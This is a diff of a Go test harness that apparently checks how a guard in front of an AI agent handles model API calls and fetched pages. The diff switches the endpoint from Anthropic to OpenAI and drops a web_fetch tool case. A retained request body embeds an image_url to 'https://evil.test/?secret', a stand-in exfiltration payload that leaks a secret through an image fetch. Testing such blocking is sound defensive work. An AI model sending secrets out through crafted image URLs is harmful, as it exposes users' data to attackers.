@@ -109,9 +109,9 @@ func serveHostile(file string, pages []string) error {
 // askKeeper asks the model, and for a page, as the agent may; and for what it may not.
 func askKeeper(page string, answer map[string]int) error {
 	var said struct {
-		Content []struct{ Text string }
+		Choices []struct{ Message struct{ Content string } }
 	}
-	if status, err := tell(os.Getenv("ANTHROPIC_BASE_URL")+"/v1/messages", `{"model":"dearer","max_tokens":1000000,"messages":[{"role":"user","content":"How many?"}]}`, &said); err != nil || status != http.StatusOK && status != http.StatusForbidden {
+	if status, err := tell(os.Getenv("OPENAI_BASE_URL")+"/chat/completions", `{"model":"dearer","max_tokens":1000000,"messages":[{"role":"user","content":"How many?"}]}`, &said); err != nil || status != http.StatusOK && status != http.StatusForbidden {
 		return fmt.Errorf("the model: %d, %w", status, err)
 	}
 	var fetched struct {
@@ -125,13 +125,12 @@ func askKeeper(page string, answer map[string]int) error {
 		return err
 	}
 	answer["said"] = 0
-	if len(said.Content) == 1 {
-		answer["said"], _ = strconv.Atoi(said.Content[0].Text)
+	if len(said.Choices) == 1 {
+		answer["said"], _ = strconv.Atoi(said.Choices[0].Message.Content)
 	}
 	answer["page"], _ = strconv.Atoi(strings.TrimSpace(string(fetched.Bytes)))
 	answer["done"] = 0
 	for path, body := range map[string]string{
-		"/anthropic/v1/messages":      `{"messages":[{"role":"user","content":"x"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
 		"/openai/v1/chat/completions": `{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.test/?secret"}}]}]}`,
 		"/configuration":              `{}`,
 		"/model":                      `{"conversation":"c","request":{}}`,
